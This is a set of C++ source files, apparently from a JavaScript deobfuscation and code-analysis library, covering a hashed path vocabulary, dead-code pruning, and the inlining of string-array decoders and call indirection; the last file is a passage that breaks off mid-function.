// vocabulary, so W·p_i reduces to an embedding-column lookup.
//
// Storage is interned and offset-indexed rather than a std::string map: all
// keys live in one contiguous blob, per-entry metadata is a fixed-width
// 24-byte record (precomputed FNV-1a hash + blob offset + segment lengths),
// and lookup probes an open-addressing table of 32-bit slots. The same three
// flat buffers are what the JSRM model artifact serializes verbatim, so a
// mapped model performs vocabulary lookups zero-copy through PathVocabView —
// the borrowed-pointer form of the table that PathVocab itself also uses
// over its own storage (one lookup implementation for heap and mmap).
//
// The per-entry segment lengths double as the inverse index that powers the
// Table VII interpretability report (cluster center → the human-readable
// central path): representative(id) rebuilds the PathContext from the blob.
#pragma once

#include <cstdint>
#include <cstring>
#include <iosfwd>
#include <string>
#include <string_view>
#include <vector>

#include "paths/path_extraction.h"
#include "util/hash.h"

namespace jsrev::paths {

/// Fixed-width vocabulary entry, mappable directly from a model artifact.
/// Layout is little-endian and padding-free (static_asserted below).
struct VocabEntryRec {
  std::uint64_t hash = 0;       // fnv1a64 of the canonical key
  std::uint32_t offset = 0;     // key start in the blob
  std::uint32_t length = 0;     // full key length ("src|path|tgt")
  std::uint32_t source_len = 0; // length of the source-value segment
  std::uint32_t path_len = 0;   // length of the path segment
};
static_assert(sizeof(VocabEntryRec) == 24, "entry record must be packed");

/// Borrowed, read-only view of a vocabulary's three flat buffers. Copyable
/// and trivially cheap; does not own the memory it points into (the owning
/// PathVocab or the mapped artifact must outlive it).
class PathVocabView {
 public:
  static constexpr std::int32_t kUnknown = -1;

  PathVocabView() = default;
  PathVocabView(const char* blob, const VocabEntryRec* entries,
                std::uint32_t n_entries, const std::uint32_t* table,
                std::uint32_t table_size)
      : blob_(blob),
        entries_(entries),
        n_entries_(n_entries),
        table_(table),
        table_size_(table_size) {}

  /// Hash of a path context, identical to fnv1a64(pc.key()) but computed
  /// without materializing the key string.
  static std::uint64_t hash_of(const PathContext& pc) {
    std::uint64_t h = fnv1a64_begin();
    h = fnv1a64_step(h, pc.source_value);
    h = fnv1a64_step(h, "|");
    h = fnv1a64_step(h, pc.path);
    h = fnv1a64_step(h, "|");
    h = fnv1a64_step(h, pc.target_value);
    return h;
  }

  /// Looks up a path context without allocating. kUnknown if absent.
  std::int32_t lookup(const PathContext& pc) const {
    if (table_size_ == 0) return kUnknown;
    const std::uint64_t h = hash_of(pc);
    const std::uint32_t mask = table_size_ - 1;
    for (std::uint32_t probe = static_cast<std::uint32_t>(h) & mask;;
         probe = (probe + 1) & mask) {
      const std::uint32_t slot = table_[probe];
      if (slot == 0) return kUnknown;
      const std::uint32_t id = slot - 1;
      if (entries_[id].hash == h && equals(entries_[id], pc)) {
        return static_cast<std::int32_t>(id);
      }
    }
  }

  std::uint32_t size() const { return n_entries_; }

  /// Canonical key of an entry ("src|path|tgt") as a view into the blob.
  std::string_view key(std::int32_t id) const {
    const VocabEntryRec& e = entries_[static_cast<std::uint32_t>(id)];
    return {blob_ + e.offset, e.length};
  }

  std::string_view source_value(std::int32_t id) const {
    const VocabEntryRec& e = entries_[static_cast<std::uint32_t>(id)];
    return {blob_ + e.offset, e.source_len};
  }
  std::string_view path_value(std::int32_t id) const {
    const VocabEntryRec& e = entries_[static_cast<std::uint32_t>(id)];
    return {blob_ + e.offset + e.source_len + 1, e.path_len};
  }
  std::string_view target_value(std::int32_t id) const {
    const VocabEntryRec& e = entries_[static_cast<std::uint32_t>(id)];
    const std::uint32_t head = e.source_len + 1 + e.path_len + 1;
    return {blob_ + e.offset + head, e.length - head};
  }

 private:
  bool equals(const VocabEntryRec& e, const PathContext& pc) const {
    if (e.length != pc.source_value.size() + pc.path.size() +
                        pc.target_value.size() + 2 ||
        e.source_len != pc.source_value.size() ||
        e.path_len != pc.path.size()) {
      return false;
    }
    const char* k = blob_ + e.offset;
    return std::memcmp(k, pc.source_value.data(), e.source_len) == 0 &&
           k[e.source_len] == '|' &&
           std::memcmp(k + e.source_len + 1, pc.path.data(), e.path_len) ==
               0 &&
           k[e.source_len + 1 + e.path_len] == '|' &&
           std::memcmp(k + e.source_len + 1 + e.path_len + 1,
                       pc.target_value.data(), pc.target_value.size()) == 0;
  }

  const char* blob_ = nullptr;
  const VocabEntryRec* entries_ = nullptr;
  std::uint32_t n_entries_ = 0;
  const std::uint32_t* table_ = nullptr;  // open addressing, id+1, 0 = empty
  std::uint32_t table_size_ = 0;          // power of two
};

class PathVocab {
 public:
  static constexpr std::int32_t kUnknown = PathVocabView::kUnknown;

  /// Interns a path key; grows the vocabulary (training-time use).
  std::int32_t add(const PathContext& pc);

  /// Looks up without growing (inference-time use). kUnknown if absent.
  std::int32_t lookup(const PathContext& pc) const {
    return view().lookup(pc);
  }

  std::size_t size() const { return entries_.size(); }

  std::string_view key(std::int32_t id) const { return view().key(id); }

  /// Representative context for a vocabulary entry, rebuilt from the blob
  /// (leaf pointers unset).
  PathContext representative(std::int32_t id) const {
    const PathVocabView v = view();
    return {std::string(v.source_value(id)), std::string(v.path_value(id)),
            std::string(v.target_value(id)), nullptr, nullptr};
  }

  /// Borrowed view over this vocabulary's storage — the exact lookup code a
  /// mapped model artifact runs.
  PathVocabView view() const {
    return {blob_.data(), entries_.data(),
            static_cast<std::uint32_t>(entries_.size()), table_.data(),
            static_cast<std::uint32_t>(table_.size())};
  }

  // Flat buffers, exposed for the artifact writer (serialized verbatim).
  const std::string& blob() const { return blob_; }
  const std::vector<VocabEntryRec>& entries() const { return entries_; }
  const std::vector<std::uint32_t>& table() const { return table_; }

  /// Vocabulary persistence (entries in id order; the legacy stream format,
  /// unchanged from v1 models — the probe table is rebuilt on load).
  void save(std::ostream& out) const;
  void load(std::istream& in);

 private:
  void insert_into_table(std::uint32_t id);
  void rehash(std::size_t min_slots);

  std::string blob_;                    // concatenated "src|path|tgt" keys
  std::vector<VocabEntryRec> entries_;  // id-ordered
  std::vector<std::uint32_t> table_;    // open addressing, id+1, 0 = empty
};

}  // namespace jsrev::paths
