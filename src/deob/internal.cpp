#include "deob/internal.h"

#include <cstdio>
#include <unordered_set>

#include "js/visitor.h"

namespace jsrev::deob::detail {

bool is_safe_identifier_name(std::string_view name) {
  static const std::unordered_set<std::string_view> kReserved = {
      "break",    "case",     "catch",  "class",      "const",  "continue",
      "debugger", "default",  "delete", "do",         "else",   "enum",
      "export",   "extends",  "false",  "finally",    "for",    "function",
      "if",       "import",   "in",     "instanceof", "let",    "new",
      "null",     "of",       "return", "super",      "switch", "this",
      "throw",    "true",     "try",    "typeof",     "var",    "void",
      "while",    "with",     "yield"};
  if (name.empty()) return false;
  const auto head = [](char c) {
    return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_' ||
           c == '$';
  };
  if (!head(name[0])) return false;
  for (const char c : name.substr(1)) {
    if (!head(c) && !(c >= '0' && c <= '9')) return false;
  }
  return kReserved.find(name) == kReserved.end();
}

std::string number_to_string(double v) {
  // Mirrors the printer's number_to_source so a folded "a" + 5 prints the
  // same digits the literal 5 would have.
  if (std::isnan(v)) return "NaN";
  if (std::isinf(v)) return v > 0 ? "Infinity" : "-Infinity";
  if (v == static_cast<long long>(v) && std::fabs(v) < 1e15) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%lld", static_cast<long long>(v));
    return buf;
  }
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.17g", v);
  return buf;
}

namespace {

// NOLINTNEXTLINE(misc-no-recursion)
void scan_free_jumps(const Node* n, int loop_depth, int switch_depth,
                     std::unordered_set<std::string_view>& labels,
                     bool& found) {
  if (n == nullptr || found) return;
  switch (n->kind) {
    case NodeKind::kFunctionDeclaration:
    case NodeKind::kFunctionExpression:
    case NodeKind::kArrowFunctionExpression:
      return;  // jumps inside nested functions bind locally
    case NodeKind::kBreakStatement: {
      if (n->str.empty()) {
        if (loop_depth == 0 && switch_depth == 0) found = true;
      } else if (labels.find(n->str.view()) == labels.end()) {
        found = true;
      }
      return;
    }
    case NodeKind::kContinueStatement: {
      if (n->str.empty()) {
        if (loop_depth == 0) found = true;
      } else if (labels.find(n->str.view()) == labels.end()) {
        found = true;
      }
      return;
    }
    case NodeKind::kLabeledStatement: {
      const bool inserted = labels.insert(n->str.view()).second;
      for (const Node* c : n->children) {
        scan_free_jumps(c, loop_depth, switch_depth, labels, found);
      }
      if (inserted) labels.erase(n->str.view());
      return;
    }
    case NodeKind::kWhileStatement:
    case NodeKind::kDoWhileStatement:
    case NodeKind::kForStatement:
    case NodeKind::kForInStatement:
      for (const Node* c : n->children) {
        scan_free_jumps(c, loop_depth + 1, switch_depth, labels, found);
      }
      return;
    case NodeKind::kSwitchStatement:
      for (const Node* c : n->children) {
        scan_free_jumps(c, loop_depth, switch_depth + 1, labels, found);
      }
      return;
    default:
      for (const Node* c : n->children) {
        scan_free_jumps(c, loop_depth, switch_depth, labels, found);
      }
      return;
  }
}

}  // namespace

bool has_free_break_or_continue(const Node* stmt) {
  bool found = false;
  std::unordered_set<std::string_view> labels;
  scan_free_jumps(stmt, 0, 0, labels, found);
  return found;
}

// NOLINTNEXTLINE(misc-no-recursion)
bool is_pure_expression(const Node* e) {
  if (e == nullptr) return true;  // array hole
  switch (e->kind) {
    case NodeKind::kLiteral:
    case NodeKind::kIdentifier:
    case NodeKind::kThisExpression:
    case NodeKind::kFunctionExpression:
    case NodeKind::kArrowFunctionExpression:
      return true;
    case NodeKind::kArrayExpression:
    case NodeKind::kSequenceExpression:
    case NodeKind::kConditionalExpression:
      break;
    case NodeKind::kObjectExpression:
      break;  // Property children checked below
    case NodeKind::kProperty:
      // The key is a literal/identifier; computed keys could be anything but
      // are still expressions — fall through to the child check.
      break;
    case NodeKind::kBinaryExpression:
    case NodeKind::kLogicalExpression:
      break;
    case NodeKind::kUnaryExpression:
      if (e->str == "delete") return false;
      break;
    default:
      // Member (getters), Call, New, Assignment, Update, and anything not
      // listed: assume effects.
      return false;
  }
  for (const Node* c : e->children) {
    if (!is_pure_expression(c)) return false;
  }
  return true;
}

std::vector<js::ChildList*> function_body_lists(Node* root) {
  std::vector<js::ChildList*> lists;
  lists.push_back(&root->children);
  js::walk(root, [&lists](Node* n) {
    if (n->is_function()) {
      Node* body = n->children.back();
      // Arrow functions may have an expression body; only block bodies hold
      // statement lists.
      if (body->kind == NodeKind::kBlockStatement) {
        lists.push_back(&body->children);
      }
    }
    return true;
  });
  return lists;
}

std::vector<js::ChildList*> all_statement_lists(Node* root) {
  std::vector<js::ChildList*> lists;
  lists.push_back(&root->children);
  js::walk(root, [&lists](Node* n) {
    if (n->kind == NodeKind::kBlockStatement) lists.push_back(&n->children);
    return true;
  });
  return lists;
}

}  // namespace jsrev::deob::detail
