// prune-dead: dead-code and opaque-predicate elimination.
//
// Four sub-steps per run (each re-finalizing when it changed the tree):
//
//   1. constant branches — `if (<const>)` / `while (<const-false>)` where the
//      test is a literal or a single-write binding initialized to a literal
//      (fold-constants has already collapsed literal comparisons, so opaque
//      predicates arrive here as plain `true`/`false`). The dead branch is
//      dropped; `var` declarators buried in it are re-hoisted as bare
//      declarations when the name is referenced outside (dropping them would
//      silently reclassify those references as implicit globals).
//   2. unreachable statements — a reachability sweep over the CFGs removes
//      statements control can never reach (after return/throw/break).
//      Hoisted forms survive: function declarations always, bare var
//      declarations as-is, initialized ones demoted to their bare guard.
//   3. unused declarations — function declarations whose name is never
//      referenced anywhere, and var declarators never read outside their own
//      declaration with side-effect-free initializers (this is what finally
//      deletes a consumed string-array table and its getter, fog data/
//      dispatch tables, and inject_dead_code's junk vars).
//   4. list cleanup — empty statements and emptied declarations.
#include <deque>
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "analysis/cfg.h"
#include "analysis/scope.h"
#include "deob/deob.h"
#include "deob/internal.h"
#include "js/visitor.h"

namespace jsrev::deob {
namespace {

using analysis::ScopeInfo;
using analysis::Symbol;
using detail::is_pure_expression;
using detail::literal_truthiness;
using js::Node;
using js::NodeKind;

bool is_declarator_id(const Node* ref) {
  return ref->parent != nullptr &&
         ref->parent->kind == NodeKind::kVariableDeclarator &&
         ref->parent->children[0] == ref;
}

bool is_bare_var_decl(const Node* s) {
  if (s->kind != NodeKind::kVariableDeclaration) return false;
  for (const Node* d : s->children) {
    if (d->children.size() >= 2 && d->children[1] != nullptr) return false;
  }
  return true;
}

/// Var declarator ids declared inside `n`, excluding nested functions (their
/// vars hoist to their own scope, not ours).
void collect_hoisted_ids(const Node* n, std::vector<const Node*>& ids) {
  js::walk(n, [&ids](const Node* c) {
    if (c->is_function()) return false;
    if (c->kind == NodeKind::kVariableDeclarator) ids.push_back(c->children[0]);
    return true;
  });
}

/// Builds the bare `var a, b;` that must survive when `removed` is deleted:
/// one declarator per name that is still referenced outside the removed
/// subtree and declared nowhere else. Returns nullptr when nothing needs
/// hoisting.
Node* hoist_guard(const Node* removed, const ScopeInfo& scopes,
                  js::AstArena& arena) {
  std::vector<const Node*> ids;
  collect_hoisted_ids(removed, ids);
  std::vector<std::string_view> keep;
  std::unordered_set<std::string_view> seen;
  for (const Node* id : ids) {
    const Symbol* sym = scopes.symbol_for(id);
    if (sym == nullptr) continue;
    bool outside_ref = false;
    bool outside_decl = false;
    for (const Node* r : sym->references) {
      if (detail::is_inside(r, removed)) continue;
      outside_ref = true;
      if (is_declarator_id(r)) outside_decl = true;
    }
    // No outside use: the binding dies with the subtree. Declared outside
    // too: that declaration keeps the name alive.
    if (!outside_ref || outside_decl) continue;
    if (seen.insert(sym->name).second) keep.push_back(id->str.view());
  }
  if (keep.empty()) return nullptr;
  Node* decl = arena.make(NodeKind::kVariableDeclaration);
  decl->str = "var";
  for (const std::string_view name : keep) {
    Node* d = arena.make(NodeKind::kVariableDeclarator);
    d->children.push_back(arena.identifier(name));
    d->children.push_back(nullptr);
    decl->children.push_back(d);
  }
  return decl;
}

// ---------------------------------------------------------------------------
// 1. Constant branches.
// ---------------------------------------------------------------------------

int fold_const_branches(js::Ast& ast) {
  js::AstArena& arena = ast.arena;
  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);

  // Dataflow-const bindings: written exactly once, by their declarator, with
  // a literal initializer. The declarator id is kept so uses that precede
  // the declaration (hoisted var read before init: still `undefined`) are
  // not treated as const.
  std::unordered_map<const Symbol*, std::pair<bool, decltype(Node::id)>> env;
  for (const auto& sym : scopes.symbols()) {
    if (sym->is_global_implicit || sym->is_parameter || sym->is_function) {
      continue;
    }
    if (sym->writes.size() != 1 || !is_declarator_id(sym->writes[0])) continue;
    const Node* decl = sym->writes[0]->parent;
    const Node* init = decl->children.size() >= 2
                           ? static_cast<Node*>(decl->children[1])
                           : nullptr;
    if (const std::optional<bool> t = literal_truthiness(init)) {
      env.emplace(sym.get(), std::make_pair(*t, sym->writes[0]->id));
    }
  }

  const auto static_truth = [&scopes, &env](const Node* test)
      -> std::optional<bool> {
    if (const std::optional<bool> t = literal_truthiness(test)) return t;
    if (test->kind == NodeKind::kIdentifier) {
      const auto it = env.find(scopes.symbol_for(test));
      if (it != env.end() && test->id > it->second.second) {
        return it->second.first;
      }
    }
    return std::nullopt;
  };

  int changes = 0;
  for (js::ChildList* list : detail::all_statement_lists(ast.root)) {
    std::vector<Node*> out;
    bool list_changed = false;
    for (Node* s : *list) {
      Node* taken = nullptr;
      Node* dropped = nullptr;
      bool fold = false;
      if (s->kind == NodeKind::kIfStatement) {
        if (const std::optional<bool> t = static_truth(s->children[0])) {
          Node* alt = s->children.size() > 2
                          ? static_cast<Node*>(s->children[2])
                          : nullptr;
          taken = *t ? s->children[1] : alt;
          dropped = *t ? alt : s->children[1];
          fold = true;
        }
      } else if (s->kind == NodeKind::kWhileStatement) {
        const std::optional<bool> t = static_truth(s->children[0]);
        if (t && !*t) {  // while(true) is simply an infinite loop; keep it
          dropped = s->children[1];
          fold = true;
        }
      }
      if (!fold) {
        out.push_back(s);
        continue;
      }
      if (taken != nullptr) out.push_back(taken);  // block-splice comes later
      if (dropped != nullptr) {
        if (Node* guard = hoist_guard(dropped, scopes, arena)) {
          out.push_back(guard);
        }
      }
      list_changed = true;
      ++changes;
    }
    if (list_changed) *list = out;
  }
  return changes;
}

// ---------------------------------------------------------------------------
// 2. CFG-unreachable statements.
// ---------------------------------------------------------------------------

int remove_unreachable(js::Ast& ast) {
  const std::vector<analysis::Cfg> cfgs = analysis::build_all_cfgs(ast.root);
  std::unordered_set<const Node*> reachable;
  for (const analysis::Cfg& cfg : cfgs) {
    std::vector<bool> seen(cfg.nodes().size(), false);
    std::deque<std::size_t> queue = {cfg.entry()};
    seen[cfg.entry()] = true;
    while (!queue.empty()) {
      const std::size_t i = queue.front();
      queue.pop_front();
      if (cfg.nodes()[i].stmt != nullptr) reachable.insert(cfg.nodes()[i].stmt);
      for (const std::size_t s : cfg.nodes()[i].succs) {
        if (!seen[s]) {
          seen[s] = true;
          queue.push_back(s);
        }
      }
    }
  }

  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);
  int changes = 0;
  for (js::ChildList* list : detail::all_statement_lists(ast.root)) {
    std::vector<Node*> out;
    bool list_changed = false;
    for (Node* s : *list) {
      // Blocks and labels never carry their own CFG node (the builder
      // recurses through them), and hoisted forms are live regardless of
      // reachability: function declarations exist before execution, and a
      // bare `var` is exactly its own hoisted residue (keeping it as-is is
      // what lets the pass reach a fixpoint instead of re-guarding forever).
      const bool exempt = s->kind == NodeKind::kBlockStatement ||
                          s->kind == NodeKind::kLabeledStatement ||
                          s->kind == NodeKind::kFunctionDeclaration ||
                          is_bare_var_decl(s);
      if (exempt || reachable.find(s) != reachable.end()) {
        out.push_back(s);
        continue;
      }
      if (Node* guard = hoist_guard(s, scopes, ast.arena)) {
        out.push_back(guard);
      }
      list_changed = true;
      ++changes;
    }
    if (list_changed) *list = out;
  }
  return changes;
}

// ---------------------------------------------------------------------------
// 3. Unused declarations.
// ---------------------------------------------------------------------------

int remove_unused_decls(js::Ast& ast) {
  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);

  // A function declaration is removable only when NO symbol of that name is
  // referenced anywhere — shadowing-blind by design, which is safe (a
  // same-named var or parameter keeps every declaration of the name alive).
  std::unordered_map<std::string_view, std::pair<bool, bool>> by_name;
  for (const auto& sym : scopes.symbols()) {
    auto& [any_function, any_reference] = by_name[sym->name];
    any_function = any_function || sym->is_function;
    any_reference = any_reference || !sym->references.empty();
  }

  int changes = 0;
  for (js::ChildList* list : detail::all_statement_lists(ast.root)) {
    std::vector<Node*> out;
    bool list_changed = false;
    for (Node* s : *list) {
      if (s->kind == NodeKind::kFunctionDeclaration) {
        const auto it = by_name.find(s->str.view());
        if (it != by_name.end() && it->second.first && !it->second.second) {
          list_changed = true;
          ++changes;
          continue;  // drop the declaration
        }
      } else if (s->kind == NodeKind::kVariableDeclaration) {
        std::vector<Node*> kept;
        for (Node* d : s->children) {
          const Symbol* sym = scopes.symbol_for(d->children[0]);
          bool unused = sym != nullptr && !sym->is_parameter &&
                        !sym->is_global_implicit;
          if (unused) {
            for (const Node* r : sym->references) {
              if (!is_declarator_id(r)) {
                unused = false;
                break;
              }
            }
          }
          Node* init = d->children.size() >= 2
                           ? static_cast<Node*>(d->children[1])
                           : nullptr;
          if (unused && (init == nullptr || is_pure_expression(init))) {
            ++changes;
            continue;  // drop the declarator
          }
          kept.push_back(d);
        }
        if (kept.size() != s->children.size()) {
          s->children = kept;
          list_changed = true;  // possibly now empty; cleanup removes it
        }
      }
      out.push_back(s);
    }
    if (list_changed) *list = out;
  }
  return changes;
}

// ---------------------------------------------------------------------------
// 4. List cleanup.
// ---------------------------------------------------------------------------

int cleanup_lists(js::Ast& ast) {
  int changes = 0;
  for (js::ChildList* list : detail::all_statement_lists(ast.root)) {
    std::vector<Node*> out;
    bool list_changed = false;
    for (Node* s : *list) {
      const bool drop =
          s->kind == NodeKind::kEmptyStatement ||
          (s->kind == NodeKind::kVariableDeclaration && s->children.empty());
      if (drop) {
        list_changed = true;
        ++changes;
      } else {
        out.push_back(s);
      }
    }
    if (list_changed) *list = out;
  }
  return changes;
}

class PruneDeadPass final : public Pass {
 public:
  std::string_view name() const noexcept override { return "prune-dead"; }

  int run(js::Ast& ast) override {
    int changes = 0;
    const auto step = [&ast, &changes](int c) {
      if (c > 0) js::finalize_tree(ast.root);
      changes += c;
    };
    step(fold_const_branches(ast));
    step(remove_unreachable(ast));
    step(remove_unused_decls(ast));
    step(cleanup_lists(ast));
    return changes;
  }
};

}  // namespace

std::unique_ptr<Pass> make_prune_dead_pass() {
  return std::make_unique<PruneDeadPass>();
}

}  // namespace jsrev::deob
