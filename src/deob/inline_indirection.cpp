// inline-indirection: undoes data- and call-indirection layers.
//
// Four sub-steps, each recomputing scope analysis over the current tree:
//
//   1. un-hoist single-use temporaries — inverts hoist_call_args: a
//      `var t = <expr>;` whose only other reference sits in the immediately
//      following statement is substituted there and the declaration dropped.
//   2. string-array decoder inlining — matches the `var A = [...]` table +
//      `function G(i){ return A[i - K] | atob(A[i - K]); }` getter shape
//      (the body's local collapses to the return form via sub-step 1),
//      optionally preceded by a `for(...) A.push(A.shift())` rotation, and
//      replaces every `G(<int>)` call with the decoded string literal.
//      Getter calls that would read the table before the rotation runs make
//      the whole pattern ineligible (the static value would be wrong).
//   3. literal/identifier array inlining — a `var X = [literals|idents]`
//      only ever read as `X[<int>]` has every such read replaced by the
//      element (Jfogs' fog-data and function-dispatch tables).
//   4. apply un-packing — `f.apply(null, [a, b])` → `f(a, b)` and
//      `o.m.apply(o, [a])` / `o["m"].apply(o, [a])` → `o.m(a)`.
//
// Declarations emptied by these rewrites are left for prune-dead; the
// fixpoint driver re-runs the pipeline until nothing changes.
#include <cstdlib>
#include <optional>
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "analysis/scope.h"
#include "deob/deob.h"
#include "deob/internal.h"
#include "js/visitor.h"
#include "util/base64.h"

namespace jsrev::deob {
namespace {

using analysis::ScopeInfo;
using analysis::Symbol;
using detail::is_identifier;
using detail::is_inside;
using detail::is_null_literal;
using detail::is_number_literal;
using detail::is_string_literal;
using detail::numeric_value;
using js::LiteralType;
using js::Node;
using js::NodeKind;

int unhoist_temps(js::Ast& ast) {
  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);
  int changes = 0;

  for (js::ChildList* list : detail::all_statement_lists(ast.root)) {
    std::vector<Node*> v(list->begin(), list->end());
    bool list_changed = false;
    // Backwards, so a run of hoisted temps collapses into the statement that
    // follows the run in one sweep.
    for (int i = static_cast<int>(v.size()) - 2; i >= 0; --i) {
      Node* s = v[i];
      if (s->kind != NodeKind::kVariableDeclaration || s->str != "var" ||
          s->children.size() != 1) {
        continue;
      }
      Node* d = s->children[0];
      if (d->children.size() < 2 || d->children[1] == nullptr) continue;
      Node* id = d->children[0];
      Node* init = d->children[1];
      const Symbol* sym = scopes.symbol_for(id);
      if (sym == nullptr || sym->references.size() != 2 ||
          sym->writes.size() != 1) {
        continue;
      }
      const Node* use =
          sym->references[0] == id ? sym->references[1] : sym->references[0];
      Node* next = v[static_cast<std::size_t>(i) + 1];
      // The use must sit in the next statement, outside any nested function
      // (inlining into a closure would change when the value is computed)
      // and in a once-evaluated statement kind (never a loop header).
      switch (next->kind) {
        case NodeKind::kExpressionStatement:
        case NodeKind::kVariableDeclaration:
        case NodeKind::kReturnStatement:
        case NodeKind::kThrowStatement:
          break;
        default:
          continue;
      }
      if (!is_inside(use, next)) continue;
      bool crosses_function = false;
      for (const Node* p = use; p != nullptr && p != next; p = p->parent) {
        if (p->is_function()) {
          crosses_function = true;
          break;
        }
      }
      if (crosses_function) continue;
      js::replace_node(const_cast<Node*>(use), *init);
      v.erase(v.begin() + i);
      list_changed = true;
      ++changes;
    }
    if (list_changed) *list = v;
  }
  return changes;
}

// ---------------------------------------------------------------------------
// String-array decoder inlining.
// ---------------------------------------------------------------------------

struct DecoderShape {
  Node* fn = nullptr;         // the getter FunctionDeclaration
  std::string array_name;
  double offset = 0;
  bool base64 = false;
};

struct ArrayShape {
  Node* declarator = nullptr;
  Node* id = nullptr;
  std::vector<std::string> values;
};

struct RotationShape {
  Node* stmt = nullptr;
  long long count = 0;
};

/// Matches `function G(p) { return A[p - K]; }` (or atob(...) of it).
bool match_decoder(Node* fn, DecoderShape& out) {
  if (fn->kind != NodeKind::kFunctionDeclaration || fn->str.empty()) {
    return false;
  }
  if (fn->children.size() != 2) return false;  // exactly one parameter
  Node* param = fn->children[0];
  Node* body = fn->children[1];
  if (param->kind != NodeKind::kIdentifier ||
      body->kind != NodeKind::kBlockStatement || body->children.size() != 1) {
    return false;
  }
  Node* ret = body->children[0];
  if (ret->kind != NodeKind::kReturnStatement || ret->children.empty() ||
      ret->children[0] == nullptr) {
    return false;
  }
  Node* expr = ret->children[0];
  bool base64 = false;
  if (expr->kind == NodeKind::kCallExpression && expr->children.size() == 2 &&
      is_identifier(expr->children[0], "atob")) {
    base64 = true;
    expr = expr->children[1];
  }
  if (expr->kind != NodeKind::kMemberExpression ||
      !expr->has_flag(Node::kComputed) ||
      expr->children[0]->kind != NodeKind::kIdentifier) {
    return false;
  }
  Node* index = expr->children[1];
  double offset = 0;
  if (is_identifier(index, param->str.view())) {
    offset = 0;
  } else if (index->kind == NodeKind::kBinaryExpression && index->str == "-" &&
             is_identifier(index->children[0], param->str.view()) &&
             is_number_literal(index->children[1])) {
    offset = index->children[1]->num;
  } else {
    return false;
  }
  out.fn = fn;
  out.array_name = std::string(expr->children[0]->str);
  out.offset = offset;
  out.base64 = base64;
  return true;
}

bool match_string_array(Node* stmt, std::unordered_map<std::string, ArrayShape>& out) {
  if (stmt->kind != NodeKind::kVariableDeclaration || stmt->str != "var") {
    return false;
  }
  bool any = false;
  for (Node* d : stmt->children) {
    if (d->children.size() < 2 || d->children[1] == nullptr) continue;
    Node* init = d->children[1];
    if (init->kind != NodeKind::kArrayExpression || init->children.empty()) {
      continue;
    }
    bool all_strings = true;
    for (const Node* e : init->children) {
      if (!is_string_literal(e)) {
        all_strings = false;
        break;
      }
    }
    if (!all_strings) continue;
    ArrayShape shape;
    shape.declarator = d;
    shape.id = d->children[0];
    for (const Node* e : init->children) shape.values.emplace_back(e->str);
    out.emplace(std::string(d->children[0]->str), shape);
    any = true;
  }
  return any;
}

/// Matches `for (var k = 0; k < N; k++) A.push(A.shift());` and returns the
/// rotated array's name.
bool match_rotation(Node* stmt, std::string& array_name, RotationShape& out) {
  if (stmt->kind != NodeKind::kForStatement) return false;
  Node* init = stmt->children[0];
  Node* test = stmt->children[1];
  Node* update = stmt->children[2];
  Node* body = stmt->children[3];
  if (init == nullptr || test == nullptr || update == nullptr) return false;
  if (init->kind != NodeKind::kVariableDeclaration ||
      init->children.size() != 1) {
    return false;
  }
  Node* d = init->children[0];
  if (d->children.size() < 2 || !is_number_literal(d->children[1]) ||
      d->children[1]->num != 0) {
    return false;
  }
  const std::string_view counter = d->children[0]->str.view();
  if (test->kind != NodeKind::kBinaryExpression || test->str != "<" ||
      !is_identifier(test->children[0], counter) ||
      !is_number_literal(test->children[1])) {
    return false;
  }
  const double n = test->children[1]->num;
  if (n < 0 || n != std::floor(n) || n > 1e6) return false;
  if (update->kind != NodeKind::kUpdateExpression || update->str != "++" ||
      !is_identifier(update->children[0], counter)) {
    return false;
  }
  Node* expr = body;
  if (body->kind == NodeKind::kBlockStatement) {
    if (body->children.size() != 1) return false;
    expr = body->children[0];
  }
  if (expr->kind != NodeKind::kExpressionStatement) return false;
  Node* push = expr->children[0];
  // A.push(A.shift())
  if (push->kind != NodeKind::kCallExpression || push->children.size() != 2 ||
      push->children[0]->kind != NodeKind::kMemberExpression ||
      push->children[0]->has_flag(Node::kComputed) ||
      !is_identifier(push->children[0]->children[1], "push") ||
      push->children[0]->children[0]->kind != NodeKind::kIdentifier) {
    return false;
  }
  Node* shift = push->children[1];
  if (shift->kind != NodeKind::kCallExpression ||
      shift->children.size() != 1 ||
      shift->children[0]->kind != NodeKind::kMemberExpression ||
      shift->children[0]->has_flag(Node::kComputed) ||
      !is_identifier(shift->children[0]->children[1], "shift") ||
      !is_identifier(shift->children[0]->children[0],
                     push->children[0]->children[0]->str.view())) {
    return false;
  }
  array_name = std::string(push->children[0]->children[0]->str);
  out.stmt = stmt;
  out.count = static_cast<long long>(n);
  return true;
}

const Symbol* global_symbol(const ScopeInfo& scopes, std::string_view name,
                            bool function_only) {
  for (const auto& sym : scopes.symbols()) {
    if (sym->name == name && sym->scope == scopes.global_scope() &&
        (!function_only || sym->is_function)) {
      return sym.get();
    }
  }
  return nullptr;
}

int inline_decoders(js::Ast& ast) {
  js::AstArena& arena = ast.arena;
  const ScopeInfo scopes = analysis::analyze_scopes(ast.root);

  std::vector<DecoderShape> decoders;
  std::unordered_map<std::string, ArrayShape> arrays;
  std::unordered_map<std::string, RotationShape> rotations;
  for (Node* stmt : ast.root->children) {
    DecoderShape dec;
    if (match_decoder(stmt, dec)) decoders.push_back(dec);
    match_string_array(stmt, arrays);
    std::string rotated;
    RotationShape rot;
    if (match_rotation(stmt, rotated, rot)) rotations.emplace(rotated, rot);
  }

  int changes = 0;
  std::unordered_set<Node*> dead_rotations;
  for (const DecoderShape& dec : decoders) {
    const auto arr_it = arrays.find(dec.array_name);
    if (arr_it == arrays.end()) continue;
    const ArrayShape& arr = arr_it->second;
    const auto len = static_cast<long long>(arr.values.size());

    const Symbol* array_sym = scopes.symbol_for(arr.id);
    const Symbol* getter_sym =
        global_symbol(scopes, dec.fn->str.view(), /*function_only=*/true);
    if (array_sym == nullptr || getter_sym == nullptr) continue;

    const RotationShape* rot = nullptr;
    const auto rot_it = rotations.find(dec.array_name);
    if (rot_it != rotations.end()) rot = &rot_it->second;

    // The table must be written exactly once (its declaration) and only read
    // by the getter and the rotation loop.
    bool array_clean = true;
